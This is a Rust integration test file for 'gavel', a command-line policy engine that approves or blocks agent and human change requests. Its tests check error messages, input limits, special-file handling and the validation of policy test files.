    let request = eval(&[
        "--request",
        "req.json",
        "--env",
        "staging",
        "--approval",
        "missing.json",
    ]);
    assert_eq!(request["digest"], request_digest(&built));
    assert_eq!(request["environment"], "staging");
    // Bytes that are no request: their SHA-256.
    let request = eval(&["--request", "bad.json"]);
    assert_eq!(
        request["digest"],
        "0bf18dabe025a06c49bef3c9920e634de2524278651b8dd63a3c1ad12f82eb81"
    );
    // Nothing read: no request file, or one that cannot be read.
    for flags in [&["--attr", "=1"][..], &["--request", "missing.json"]] {
        let request = eval(flags);
        assert_eq!(request["digest"], EMPTY, "{flags:?}");
        assert_eq!(request["action"], "", "{flags:?}");
    }
}

/// Output that cannot be written (a full disk; a closed pipe behaves alike) is exit 1 with
/// one line on stderr, for `eval` and every other command, never a panic (exit 101).
#[cfg(target_os = "linux")]
#[test]
fn output_that_cannot_be_written_exits_one_with_one_line() {
    let ws = cli()
        .file(
            "req.json",
            r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},
               "files":[{"path":"docs/a.md","added":3}]}"#,
        )
        .args(["check"])
        .run()
        .1;
    for args in [
        &["eval", "--request", "req.json", "--now", NOW, "--no-audit"][..],
        &[
            "eval",
            "--request",
            "req.json",
            "--now",
            NOW,
            "--no-audit",
            "--format",
            "json",
        ],
        &["test"],
    ] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_gavel"))
            .current_dir(ws.path())
            .args(args)
            .stdout(std::fs::File::create("/dev/full").unwrap())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(
            stderr.contains("error: cannot write the output: No space left on device"),
            "{args:?}: {stderr}"
        );
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    }
}

/// The sample test file in docs/testing.md runs and passes against `policies/autopack`, as
/// the doc says (found by QA: it named an approver autopack does not declare and left out an
/// attribute autopack requires, so it failed as written).
#[test]
fn the_sample_test_file_in_the_docs_passes() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let doc = std::fs::read_to_string(root.join("docs/testing.md")).unwrap();
    let section = &doc[doc.find("## A test file").unwrap()..];
    let start = section.find("```yaml\n").unwrap() + "```yaml\n".len();
    let yaml = &section[start..start + section[start..].find("```").unwrap()];
    let mut cli = crate::support::Cli::new();
    for entry in std::fs::read_dir(root.join("policies/autopack")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "gavel") {
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            cli = cli.file(&format!("policies/{name}"), std::fs::read(&path).unwrap());
        }
    }
    cli.file("policies/tests/sample.yaml", yaml)
        .args(["test"])
        .output()
        .code(0)
        .stdout_has("\n2 passed, 0 failed\n");
}

/// `--repo` only says where `--git` reads the diff: given alone it is refused rather than
/// ignored, so a script that forgot `--git` learns it (found by QA).
#[test]
fn repo_without_git_is_refused() {
    let out = cli()
        .args(["eval", "--env", "dev", "--repo", "elsewhere", "--now", NOW])
        .output();
    out.code(1)
        .stderr_has("the following required arguments were not provided")
        .stderr_has("--git <BASE..HEAD>");
}

/// A request file whose name is not UTF-8 is read like any other: paths are bytes.
#[cfg(unix)]
#[test]
fn a_request_file_whose_name_is_not_utf8_is_read() {
    use std::os::unix::ffi::OsStrExt;
    let (_, ws) = cli().args(["check"]).run();
    let name = std::ffi::OsStr::from_bytes(b"req\xff.json");
    std::fs::write(
        ws.path().join(name),
        r#"{"action":"apply_patch","environment":"dev","actor":{"id":"a","kind":"agent"},
           "files":[{"path":"docs/a.md","added":30}]}"#,
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gavel"))
        .current_dir(ws.path())
        .args([
            "eval",
            "--no-audit",
            "--now",
            NOW,
            "--format",
            "json",
            "--request",
        ])
        .arg(name)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}");
    assert!(stdout.contains("\"outcome\": \"auto_approve\""), "{stdout}");
}

/// More `--role` flags than a document may list roles is refused naming the flag; as many
/// as the limit pass (found by QA: the refusal named only `actor.roles`).
#[test]
fn more_role_flags_than_the_limit_are_refused_naming_the_flag() {
    let max = gavel::limits::MAX_LIST_ITEMS;
    let roles = |n: usize| (0..n).flat_map(|_| ["--role".to_string(), "r".to_string()]);
    let (_, ws) = cli().args(["check"]).run();
    let base = [
        "eval",
        "--env",
        "dev",
        "--no-audit",
        "--now",
        NOW,
        "--format",
        "json",
    ];
    let out = ws.run(base.iter().map(|s| s.to_string()).chain(roles(max + 1)));
    out.code(1).stderr_has(&format!(
        "error: `actor.roles`: with --role, {} roles, more than the limit of {max}",
        max + 1
    ));
    let out = ws.run(base.iter().map(|s| s.to_string()).chain(roles(max)));
    assert_eq!(out.json()["input_error"], serde_json::Value::Null);
}

/// Test files that would pass without checking what they say, or run nothing, are refused
/// naming the file and why (found by QA of `gavel test`): an expectation key left empty, a
/// list where a mapping belongs, an outcome no decision has, a rule the policy lacks, a case
/// without a name, a file without cases, a file that is no regular file.
#[test]
fn gavel_test_refuses_files_that_check_or_run_nothing() {
    let request = "{action: apply_patch, environment: dev, actor: {id: a, kind: agent}, \
                   files: [{path: docs/x.md, added: 1}]}";
    let case = |expect: &str| {
        format!("cases:\n  - name: c\n    request: {request}\n    expect: {expect}\n")
    };
    for (tests, says) in [
        (
            case("{outcome: auto_approve, gates: }"),
            "`cases[0].expect.gates`: is empty (null), which checks nothing",
        ),
        (
            case("{outcome: auto_approve, risk: {score: ~}}"),
            "`cases[0].expect.risk.score`: is empty (null)",
        ),
        (
            case("[auto_approve, [docs]]"),
            "`cases[0].expect`: a list where a mapping belongs",
        ),
        (
            case("{outcome: blocked}"),
            "`outcome` is `blocked`, which no decision has",
        ),
        (
            case("{outcome: auto_approve, fired: [doc]}"),
            "`fired` lists `doc`, which is no rule of the policy",
        ),
        ("cases: []\n".to_string(), "the file has no cases"),
        (
            case("{outcome: auto_approve, reason_contains: \" \"}"),
            "`reason_contains` is empty, so every decision contains it",
        ),
        (
            format!(
                "cases:\n  - name: \" \"\n    request: {request}\n    expect: {{outcome: auto_approve}}\n"
            ),
            "case 1 has no name",
        ),
    ] {
        let out = cli()
            .file("policies/tests/t.yaml", &tests)
            .args(["test"])
            .output();
        out.code(1)
            .stdout_has("policies/tests/t.yaml\n  ✗ cannot run this file: ")
            .stdout_has(says)
            .stdout_has("0 passed, 1 failed");
    }
    // `reason_contains` is looked for in each text on its own, not across two of them: the
    // summary ends with "(rule `secrets`)" and the first reason starts with "agents".
    let out = cli()
        .file(
            "policies/tests/t.yaml",
            case("{outcome: block, reason_contains: \"(rule `secrets`)\\nagents\"}")
                .replace("docs/x.md", ".env"),
        )
        .args(["test"])
        .output();
    out.code(1)
        .stdout_has("✗ c\n")
        .stdout_has("reason: expected to contain");
    let out = cli()
        .file(
            "policies/tests/t.yaml",
            case("{outcome: block, reason_contains: \"(rule `secrets`)\"}")
                .replace("docs/x.md", ".env"),
        )
        .args(["test"])
        .output();
    out.code(0).stdout_has("✓ c\n");
    // A request in a case is read as `gavel eval --request` reads it, with its words.
    let out = cli()
        .file(
            "policies/tests/t.yaml",
            "cases:\n  - name: c\n    request: [apply_patch]\n    expect: {outcome: block, \
             reason_contains: \"the request must be a JSON object or YAML mapping\"}\n",
        )
        .args(["test"])
        .output();
    out.code(0).stdout_has("✓ c\n");
}

/// Policies are found at any depth below `--policies` (`policies/<team>/<service>/`), as
/// `gavel check` finds them, and a test file that is no regular file is refused rather than
/// read (a symlink to `/dev/zero` would never end).
#[cfg(unix)]
#[test]
fn gavel_test_finds_nested_policies_and_refuses_special_files() {
    let tests = "cases:\n  - name: docs\n    request: {action: apply_patch, environment: dev, \
                 actor: {id: a, kind: agent}, files: [{path: docs/x.md, added: 1}]}\n    \
                 expect: {outcome: auto_approve}\n";
    let (out, ws) = Cli::new()
        .file("policies/team/app/main.gavel", policy())
        .file("policies/team/app/tests/t.yaml", tests)
        .file("policies/other/main.gavel", policy())
        .file("policies/other/tests/t.yaml", tests)
        .args(["test"])
        .run();
    out.code(0)
        .stdout_has("policies/team/app/tests/t.yaml\n  ✓ docs")
        .stdout_has("policies/other/tests/t.yaml\n  ✓ docs")
        .stdout_has("2 passed, 0 failed");
    std::os::unix::fs::symlink(
        "/dev/zero",
        ws.path().join("policies/other/tests/zero.yaml"),
    )
    .unwrap();
    let out = ws.run(["test"]);
    out.code(1)
        .stdout_has("policies/other/tests/zero.yaml\n  ✗ cannot run this file: not a regular file");
    // A FIFO would block the open itself.
    let fifo = ws.path().join("policies/other/tests/fifo.yaml");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    // A link back up the tree is searched once: no policy twice, no endless walk.
    std::os::unix::fs::symlink(".", ws.path().join("policies/team/loop")).unwrap();
    let out = ws.run(["test"]);
    out.code(1)
        .stdout_has("policies/other/tests/fifo.yaml\n  ✗ cannot run this file: not a regular file")
        .stdout_has("2 passed, 2 failed");
    assert_eq!(out.stdout.matches("✓ docs").count(), 2, "{}", out.stdout);
}

/// A directory deeper than policies are looked for is an error, not skipped: a policy there
/// would go unchecked (found in review).
#[test]
fn policies_below_the_search_depth_are_an_error_not_skipped() {
    let (_, ws) = Cli::new()
        .file("policies/ok/main.gavel", policy())
        .file("policies/1/2/3/4/5/6/7/8/bad/x.gavel", "garbage")
        .args(["check"])
        .run();
    let out = ws.run(["check"]);
    out.code(1).stderr_has(
        "holds directories more than 8 levels below the policies directory; policies are looked \
         for at most 8 levels down",
    );
    // Eight levels down is found.
    let (out, _) = Cli::new()
        .file("policies/1/2/3/4/5/6/7/ok/main.gavel", policy())
        .args(["check"])
        .run();
    out.code(0);
}

/// A test case's `context.usage` is read as a request's usage counters are: `3.0` is 3, and a
/// negative count is refused in the same words (found by QA: "expected u64").
#[test]
fn gavel_test_reads_context_usage_as_a_request_does() {
    let case = |count: &str| {
        format!(
            "cases:\n  - name: calls\n    request: {{action: apply_patch, actor: {{id: a, kind: \
             agent}}}}\n    context: {{usage: {{calls: {count}}}}}\n    expect: {{outcome: block, \
             fired: [many]}}\n"
        )
    };
    let policy = "policy \"p\"\ndefault auto_approve\n\
                  rule many { when usage.calls > 2 then block \"too many\" }\n";
    let out = Cli::new()
        .file("policies/p.gavel", policy)
        .file("policies/tests/t.yaml", case("3.0"))
        .args(["test"])
        .output();
    out.code(0).stdout_has("✓ calls");
    let out = Cli::new()
        .file("policies/p.gavel", policy)
        .file("policies/tests/t.yaml", case("-1"))
        .args(["test"])
        .output();
    out.code(1).stdout_has(
        "✗ cannot run this file: `cases[0].context.usage.calls`: -1 is negative; a count is a \
         whole number from 0 to",
    );
}

/// Times in a test case's context are read as times everywhere else: RFC 3339, quoted with
/// the form expected when they are not (found by audit: jiff's own words, and `+25:00`
/// accepted).
#[test]
fn gavel_test_reads_context_times_as_rfc3339() {
    for (context, field, why) in [
        (
            "{now: bad}",
            "cases[0].context.now",
            "`bad` is not an RFC 3339 timestamp",
        ),
        (
            "{halt: {by: x, at: \"2026-03-01T00:00:00+25:00\", reason: r}}",
            "cases[0].context.halt.at",
            "the offset must lie between -23:59 and +23:59",
        ),
        (
            "{approvals: [{approver: alice@example.com, role: admin, verdict: approve, issued_at: \"2026-03-01 12:00\"}]}",
            "cases[0].context.approvals[0].issued_at",
            "is not an RFC 3339 timestamp",
        ),
    ] {
        let tests = format!(
            "cases:\n  - name: t\n    context: {context}\n    request: {{action: deploy, environment: prod, actor: {{id: a, kind: human}}}}\n    expect: {{outcome: block}}\n"
        );
        let out = cli()
            .file("policies/tests/cases.yaml", tests)
            .args(["test"])
            .output();
        out.code(1)
            .stdout_has(&format!("✗ cannot run this file: `{field}`: "))
            .stdout_has(why);
    }
}

/// A case passes `outcome: block` on a refused request only when it says which refusal it
/// tests (`reason_contains`), and a case without a request cannot be run (found by QA: a
/// typo in the request, or no request at all, passed any case expecting `block`).
#[test]
fn gavel_test_does_not_pass_a_block_on_a_request_refused_by_mistake() {
    let policy = "policy \"p\"\ndefault auto_approve\n\
                  rule big { when files.count > 3 then block \"big\" }\n";
    let run = |cases: &str| {
        Cli::new()
            .file("policies/p.gavel", policy)
            .file("policies/tests/t.yaml", format!("cases:\n{cases}"))
            .args(["test"])
            .output()
    };
    run("  - name: typo\n    request: {action: apply_patch, actor: {id: a, kind: agent}, file: []}\n    expect: {outcome: block}\n")
        .code(1)
        .stdout_has("✗ typo")
        .stdout_has("the request was refused (`file`: unknown field `file`");
    run("  - name: named\n    request: {action: apply_patch, actor: {id: a, kind: agent}, file: []}\n    expect: {outcome: block, reason_contains: \"unknown field `file`\"}\n")
        .code(0)
        .stdout_has("✓ named");
    run("  - name: none\n    request:\n    expect: {outcome: block}\n")
        .code(1)
        .stdout_has("✗ none")
        .stdout_has("the request was refused (");
}

/// Test files are found whatever the letter case of their extension (found by QA: a failing
/// case in `a.YAML` never ran, and the run passed).
#[test]
fn gavel_test_runs_test_files_with_an_uppercase_extension() {
    let policy = "policy \"p\"\ndefault auto_approve\n";
    let case = "cases:\n  - name: wrong\n    request: {action: apply_patch, actor: {id: a, kind: \
                agent}}\n    expect: {outcome: block}\n";
    Cli::new()
        .file("policies/p.gavel", policy)
        .file("policies/tests/a.YAML", case)
        .args(["test"])
        .output()
        .code(1)
        .stdout_has("policies/tests/a.YAML\n  ✗ wrong");
}

/// Expectations the policy can never meet make the file unrunnable (found by QA): a gate of
/// a default that is not a `require`, and a risk level the policy does not declare. The
/// same expectations that can be met run.
#[test]
fn gavel_test_refuses_expectations_the_policy_cannot_meet() {
    let policy = "policy \"small\"\ndefault auto_approve\nrisk {\n  60 when files.count > 1 as \"many\"\n  levels { high >= 50, low }\n}\n";
    let file = |expect: &str| {
        format!(
            "cases:\n  - name: one\n    request: {{action: apply_patch, actor: {{id: a, kind: agent}}, files: [{{path: a.md, added: 1}}]}}\n    expect: {{outcome: auto_approve{expect}}}\n"
        )
    };
    for (expect, says) in [
        (
            ", gates: [{rule: default}]",
            "case `one`: `gates` lists `default`, but the policy's default is not a `require`, so it never has a gate",
        ),
        (
            ", risk: {level: medium}",
            "case `one`: `risk.level` `medium` is no level of the policy; its levels are high, low",
        ),
    ] {
        Cli::new()
            .file("policies/main.gavel", policy)
            .file("policies/tests/one.yaml", file(expect))
            .args(["test"])
            .output()
            .code(1)
            .stdout_has(&format!("✗ cannot run this file: {says}\n"))
            .stdout_has("0 passed, 1 failed");
    }
    Cli::new()
        .file("policies/main.gavel", policy)
        .file(
            "policies/tests/one.yaml",
            file(", gates: [], risk: {level: low, score: \"0\"}"),
        )
        .args(["test"])
        .output()
        .code(0)
        .stdout_has("1 passed, 0 failed");
}
